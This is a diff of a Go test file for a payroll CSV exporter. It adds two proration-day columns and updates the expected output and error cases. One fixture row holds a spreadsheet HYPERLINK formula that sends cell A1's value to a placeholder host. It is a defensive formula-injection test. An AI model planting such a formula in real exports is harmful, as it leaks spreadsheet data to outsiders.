@@ -21,7 +21,7 @@ var update = flag.Bool("update", false, "rewrite the golden files in testdata/")
 // quoting, formula injection, nulls, zero and negative money.
 func sampleRows() []schema.PayrollRow {
 	return []schema.PayrollRow{
-		{Month: "2026-09", EmployeeID: "E001", EmployeeName: ptr("张三"), Team: ptr("华东一组"), ScoreCenti: ptr(int64(9250)), Band: ptr("A"), MultiplierCenti: 120, PerformancePayFen: ptr(int64(600000)), PayoutFen: ptr(int64(720000))},
+		{Month: "2026-09", EmployeeID: "E001", EmployeeName: ptr("张三"), Team: ptr("华东一组"), ScoreCenti: ptr(int64(9250)), Band: ptr("A"), MultiplierCenti: 120, PerformancePayFen: ptr(int64(600000)), PayoutFen: ptr(int64(720000)), EmployedDays: ptr(int32(22)), WorkingDays: ptr(int32(22))},
 		{Month: "2026-09", EmployeeID: "E002", EmployeeName: ptr("O'Brien, \"Pat\""), Team: ptr("VIP\n坐席"), ScoreCenti: ptr(int64(8000)), Band: ptr("B"), MultiplierCenti: 100, PerformancePayFen: ptr(int64(123457)), PayoutFen: ptr(int64(123457))},
 		{Month: "2026-09", EmployeeID: "E003", EmployeeName: ptr(`=HYPERLINK("http://x.example/?q="&A1,"点我")`), Team: ptr("-5"), ScoreCenti: ptr(int64(6999)), Band: ptr("D"), MultiplierCenti: 50, PerformancePayFen: ptr(int64(12345)), PayoutFen: ptr(int64(6173))},
 		{Month: "2026-09", EmployeeID: "E004", ScoreCenti: ptr(int64(7000)), Band: ptr("C"), MultiplierCenti: 80},
@@ -49,8 +49,8 @@ func TestWriteCSVFormat(t *testing.T) {
 	require.NoError(t, WriteCSV(&buf, sampleRows()[:1]))
 	out := buf.String()
 	assert.True(t, strings.HasPrefix(out, "\xEF\xBB\xBF"), "UTF-8 BOM")
-	assert.Equal(t, "\xEF\xBB\xBFmonth,employee_id,employee_name,team,score,band,multiplier,performance_pay,payout\r\n"+
-		"2026-09,E001,张三,华东一组,92.50,A,1.20,6000.00,7200.00\r\n", out)
+	assert.Equal(t, "\xEF\xBB\xBFmonth,employee_id,employee_name,team,score,band,multiplier,performance_pay,payout,employed_days,working_days\r\n"+
+		"2026-09,E001,张三,华东一组,92.50,A,1.20,6000.00,7200.00,22,22\r\n", out)
 
 	buf.Reset()
 	require.NoError(t, WriteCSV(&buf, nil))
@@ -145,7 +145,10 @@ func TestCSVRoundTrip(t *testing.T) {
 }
 
 func TestReadCSVErrors(t *testing.T) {
-	header := strings.Join(schema.PayrollCSVHeader, ",") + "\r\n"
+	// The rows below are in the nine-column form written before the
+	// proration columns were appended: it still reads.
+	header := strings.Join(schema.PayrollCSVHeader[:9], ",") + "\r\n"
+	full := strings.Join(schema.PayrollCSVHeader, ",") + "\r\n"
 	tests := []struct {
 		name    string
 		in      string
@@ -154,7 +157,11 @@ func TestReadCSVErrors(t *testing.T) {
 		{"empty", "", "empty file"},
 		{"bom only", "\uFEFF", "empty file"},
 		{"wrong column", "month,employee_id,name,team,score,band,multiplier,performance_pay,payout\r\n", `column 3 is "name", want "employee_name"`},
-		{"missing column", "month,employee_id,employee_name,team,score,band,multiplier,performance_pay\r\n", "8 columns, want 9"},
+		{"missing column", "month,employee_id,employee_name,team,score,band,multiplier,performance_pay\r\n", "8 columns, want 11"},
+		{"ten columns", full[:strings.LastIndex(full, ",")] + "\r\n", "10 columns, want 11"},
+		{"days not a number", full + "2026-09,E1,x,y,90.50,A,1.20,1.00,1.20,x,22\r\n", "line 2: employed_days"},
+		{"days too many", full + "2026-09,E1,x,y,90.50,A,1.20,1.00,1.20,3,32\r\n", "line 2: working_days"},
+		{"legacy row in the new form", full + "2026-09,E1,x,y,90.50,A,1.20,1.00,1.20\r\n", "wrong number of fields"},
 		{"short row", header + "2026-09,E1,x,y,90.00,A,1.20,1.00\r\n", "wrong number of fields"},
 		{"score not two decimals", header + "2026-09,E1,x,y,90.5,A,1.20,1.00,1.20\r\n", "line 2: score"},
 		{"multiplier empty", header + "2026-09,E1,x,y,90.50,A,,1.00,1.20\r\n", "line 2: multiplier"},
